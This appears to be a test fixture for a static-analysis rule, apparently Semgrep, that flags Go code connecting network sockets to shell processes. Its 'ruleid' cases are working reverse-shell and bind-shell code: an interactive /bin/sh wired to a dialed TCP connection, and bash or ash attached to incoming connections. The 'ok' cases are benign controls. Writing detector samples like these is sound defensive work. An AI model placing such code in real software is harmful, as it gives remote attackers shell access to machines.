package agent

import (
	"io"
	"net"
	"os"
	"os/exec"
)

func out(address string) {
	c, err := net.Dial("tcp", address)
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh", "-i")
	// ruleid: go-connection-becomes-shell-stream
	cmd.Stdin = c
	// ruleid: go-connection-becomes-shell-stream
	cmd.Stdout = c
	cmd.Run()
}

func serve(conn net.Conn) {
	cmd := exec.Command("bash")
	in, _ := cmd.StdinPipe()
	// ruleid: go-connection-becomes-shell-stream
	go io.Copy(in, conn)
	cmd.Start()
}

func wait(l net.Listener) {
	for {
		c, _ := l.Accept()
		sh := exec.Command("/bin/ash")
		// ruleid: go-connection-becomes-shell-stream
		sh.Stderr = c
		sh.Run()
	}
}

func local() {
	cmd := exec.Command("/bin/sh", "-c", "df")
	// ok: go-connection-becomes-shell-stream
	cmd.Stdout = os.Stdout
	cmd.Run()
}

func sorted(conn net.Conn) {
	cmd := exec.Command("/usr/bin/sort")
	// ok: go-connection-becomes-shell-stream
	cmd.Stdin = conn
	cmd.Run()
}

func echo(conn net.Conn) {
	// ok: go-connection-becomes-shell-stream
	io.Copy(conn, conn)
}
